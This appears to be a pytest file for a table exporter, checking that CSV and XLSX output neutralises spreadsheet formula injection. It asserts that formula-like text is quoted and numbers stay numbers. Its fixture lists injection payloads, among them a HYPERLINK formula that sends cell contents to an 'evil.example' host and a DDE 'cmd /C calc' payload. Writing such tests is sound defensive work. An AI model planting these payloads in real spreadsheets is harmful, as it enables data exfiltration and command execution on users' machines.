"""Exported tables never carry a live formula: hostile text stays text, numbers stay numbers."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from domain.framework import FrameworkMeta, Level, content_digest, to_dict
from interfaces.framework_io.exporter import export
from interfaces.framework_io.formula_guard import TRIGGERS, csv_cell, csv_cell_text
from interfaces.framework_io.importer import parse_table

META = FrameworkMeta(
    name='=HYPERLINK("http://x")', jurisdiction="@Tỉnh", level=Level.COMMUNE, year=2024
)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "＝1+1",
    "'=already quoted",
]
TABLE = [
    ["code", "title", "max_points", "note"],
    ["1", HOSTILE[0], "2.5", HOSTILE[1]],
    ["1.1", HOSTILE[2], "1", HOSTILE[3]],
    ["1.2", HOSTILE[4], "1.5", HOSTILE[5]],
]


@pytest.fixture
def framework():
    return parse_table(TABLE, META).framework


def test_the_xlsx_holds_hostile_text_as_text_cells_and_maxima_as_numbers(tmp_path, framework):
    path = export(framework, tmp_path / "out.xlsx")
    workbook = load_workbook(path)
    sheet, info = workbook.worksheets
    cells = [c for row in sheet.iter_rows() for c in row] + [c for r in info.iter_rows() for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = [sheet.cell(row, 3) for row in (2, 3, 4)]
    assert [c.value for c in titles] == HOSTILE[0:5:2]
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    assert [sheet.cell(row, 4).data_type for row in (2, 3, 4)] == ["n", "n", "n"]
    assert info["B2"].value == META.name and info["B2"].data_type == "s"


def test_the_xlsx_file_has_no_formula_element(tmp_path, framework):
    import zipfile

    path = export(framework, tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml and b"<f " not in xml


def test_the_csv_puts_one_apostrophe_before_formula_like_text_and_none_before_numbers(
    tmp_path, framework
):
    path = export(framework, tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [r[2] for r in rows[1:]] == ["'" + h for h in HOSTILE[0:5:2]]
    assert [r[4] for r in rows[1:]] == ["'" + HOSTILE[1], "'" + HOSTILE[3], "''=already quoted"]
    assert [r[3] for r in rows[1:]] == ["2.5", "1", "1.5"]
    assert not any(cell[:1] in TRIGGERS for row in rows for cell in row if cell)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_framework_with_hostile_text_exports_and_imports_back_identical(
    tmp_path, framework, suffix
):
    again = parse_table(export(framework, tmp_path / f"out{suffix}"), META).framework
    assert to_dict(again) == to_dict(framework)
    assert content_digest(again) == content_digest(framework)


@pytest.mark.parametrize("number", ["-0.5", "0", "12.25", "-3"])
def test_decimal_numbers_are_left_as_numbers(number):
    assert csv_cell(number) == number


@pytest.mark.parametrize("text", ["\tx", "\rx", "-", "+", "@", "=", "－1", "＠a", "-0.5.1", "-1e3"])
def test_every_trigger_character_is_protected(text):
    assert csv_cell(text) == "'" + text


@given(st.text(alphabet=st.sampled_from(["'", "=", "-", "a", "1", ".", "＋", "\t"]), max_size=6))
def test_protecting_a_csv_cell_is_undone_exactly_by_reading_it(text):
    assert csv_cell_text(csv_cell(text)) == text
